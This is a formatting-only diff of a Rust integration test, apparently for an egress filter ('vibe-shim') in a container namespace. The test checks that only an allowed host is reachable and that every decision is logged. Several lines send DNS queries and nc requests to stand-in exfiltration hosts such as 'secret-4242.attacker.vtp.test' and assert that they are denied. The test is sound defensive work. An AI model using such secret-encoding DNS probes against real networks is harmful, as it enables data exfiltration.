@@ -191,7 +191,15 @@ impl Rig {
         container.ip(&["addr", "add", &format!("{CONTAINER_IP}/30"), "dev", "eth0"]);
         container.ip(&["link", "set", "eth0", "up"]);
         container.ip(&["route", "add", "default", "via", GATEWAY]);
-        must(&["ip", "netns", "exec", "vtpH", "sysctl", "-qw", "net.ipv4.ip_forward=1"]);
+        must(&[
+            "ip",
+            "netns",
+            "exec",
+            "vtpH",
+            "sysctl",
+            "-qw",
+            "net.ipv4.ip_forward=1",
+        ]);
 
         provider.tcp_server(80);
         provider.tcp_server(443);
@@ -211,7 +219,11 @@ impl Rig {
             queries.to_str().unwrap(),
         ]);
         provider.wait_listening("53", "udp");
-        for (name, text) in [("dnsq.py", DNSQ), ("hello.py", HELLO_PY), ("udp.py", UDP_PY)] {
+        for (name, text) in [
+            ("dnsq.py", DNSQ),
+            ("hello.py", HELLO_PY),
+            ("udp.py", UDP_PY),
+        ] {
             std::fs::write(dir.path().join(name), text).unwrap();
         }
         let pid = container.spawn(&["sleep", "600"]);
@@ -379,8 +391,15 @@ fn transparent_egress_in_a_container_namespace() {
     // Before: the container reaches the test host and its resolver
     // directly (so each refusal below is the wall's or the answerer's).
     assert!(text(&rig.nc(TEST_HOST, 80, "")).contains("ok"));
-    assert_eq!(rig.dns(RESOLVER, "probe.vtp.test", false), "rcode=0 a=203.0.113.130");
-    assert!(rig.queries().contains("probe.vtp.test"), "{}", rig.queries());
+    assert_eq!(
+        rig.dns(RESOLVER, "probe.vtp.test", false),
+        "rcode=0 a=203.0.113.130"
+    );
+    assert!(
+        rig.queries().contains("probe.vtp.test"),
+        "{}",
+        rig.queries()
+    );
 
     rig.create_and_start();
 
@@ -391,7 +410,12 @@ fn transparent_egress_in_a_container_namespace() {
         80,
         &format!("GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"),
     );
-    assert!(text(&out).contains("ok"), "{}; {}", text(&out), rig.stderr());
+    assert!(
+        text(&out).contains("ok"),
+        "{}; {}",
+        text(&out),
+        rig.stderr()
+    );
     let fake = rig.dns(RESOLVER, ALLOWED, false);
     assert!(fake.starts_with("rcode=0 a=198.1"), "{fake}");
     // Over TCP, and whatever nameserver is named: Docker's embedded one,
@@ -416,19 +440,33 @@ fn transparent_egress_in_a_container_namespace() {
         let r = rig.dns(server, "secret-4242.attacker.vtp.test", tcp);
         assert_eq!(r, "rcode=3 a=", "{server}");
     }
-    let getent = rig.container.exec(&["getent", "hosts", "secret-4343.attacker.vtp.test"]);
+    let getent = rig
+        .container
+        .exec(&["getent", "hosts", "secret-4343.attacker.vtp.test"]);
     assert!(!getent.status.success(), "{}", text(&getent));
-    let out = rig.nc("secret-4444.attacker.vtp.test", 80, "GET / HTTP/1.0\r\n\r\n");
+    let out = rig.nc(
+        "secret-4444.attacker.vtp.test",
+        80,
+        "GET / HTTP/1.0\r\n\r\n",
+    );
     assert!(!text(&out).contains("ok"), "{}", text(&out));
     assert!(!rig.queries().contains("attacker"), "{}", rig.queries());
     assert!(!rig.queries().contains(ALLOWED), "{}", rig.queries());
 
     // 4. The allowed host's IP literal, and a fake address never given.
-    let out = rig.nc(TEST_HOST, 80, &format!("GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"));
+    let out = rig.nc(
+        TEST_HOST,
+        80,
+        &format!("GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"),
+    );
     assert!(!text(&out).contains("ok"), "{}", text(&out));
     let hello = rig.py("hello.py", &[TEST_HOST, "443", ALLOWED]);
     assert!(!hello.contains("got ok"), "{hello}");
-    let out = rig.nc("198.19.200.1", 80, &format!("GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"));
+    let out = rig.nc(
+        "198.19.200.1",
+        80,
+        &format!("GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"),
+    );
     assert!(!text(&out).contains("ok"), "{}", text(&out));
 
     // 5. UDP/443 gets nothing, to the address or the fake one.
@@ -448,7 +486,11 @@ fn transparent_egress_in_a_container_namespace() {
     assert!(text(&out).contains("ok"), "{}", text(&out));
 
     // 7. The HTTP refusal names vibe-shim; every decision is logged.
-    let out = rig.nc(ALLOWED, 80, "GET / HTTP/1.1\r\nHost: other.vtp.test\r\n\r\n");
+    let out = rig.nc(
+        ALLOWED,
+        80,
+        "GET / HTTP/1.1\r\nHost: other.vtp.test\r\n\r\n",
+    );
     let t = text(&out);
     assert!(t.starts_with("HTTP/1.1 403"), "{t}");
     assert!(t.contains("\r\n\r\nvibe-shim egress: denied"), "{t}");
@@ -467,7 +509,10 @@ fn transparent_egress_in_a_container_namespace() {
         })
     };
     assert!(has("dns", "allow", ALLOWED), "{text_log}");
-    assert!(has("dns", "deny", "secret-4242.attacker.vtp.test"), "{text_log}");
+    assert!(
+        has("dns", "deny", "secret-4242.attacker.vtp.test"),
+        "{text_log}"
+    );
     assert!(has("transparent-http", "allow", ALLOWED), "{text_log}");
     assert!(has("transparent-tls", "allow", ALLOWED), "{text_log}");
     assert!(has("transparent-tls", "deny", ALLOWED), "{text_log}");
@@ -476,14 +521,25 @@ fn transparent_egress_in_a_container_namespace() {
     assert!(has("http", "allow", ALLOWED), "{text_log}");
 
     // 8. Nothing in the container's table or routes leads off loopback.
-    let table = must(&["ip", "netns", "exec", "vtpC", "nft", "list", "table", "inet", "vibe_shim"]);
+    let table = must(&[
+        "ip",
+        "netns",
+        "exec",
+        "vtpC",
+        "nft",
+        "list",
+        "table",
+        "inet",
+        "vibe_shim",
+    ]);
     let mut chain = String::new();
     for line in table.lines().map(str::trim) {
         if let Some(name) = line.strip_prefix("chain ") {
             chain = name.trim_end_matches(" {").to_string();
             continue;
         }
-        if line.starts_with("type ") || line == "}" || line.is_empty() || line.starts_with("table") {
+        if line.starts_with("type ") || line == "}" || line.is_empty() || line.starts_with("table")
+        {
             continue;
         }
         match chain.as_str() {
